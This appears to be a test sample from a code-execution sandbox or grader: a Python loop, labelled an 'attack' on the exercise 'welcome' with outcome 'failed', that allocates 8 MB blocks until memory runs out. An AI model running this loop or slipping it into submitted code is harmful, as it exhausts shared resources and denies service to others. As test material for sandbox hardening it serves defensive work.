# attack: takes all the memory it can get | 能拿多少内存就拿多少
# exercise: welcome
# outcome: failed
hoard = []
while True:
    hoard.append(bytearray(8 << 20))
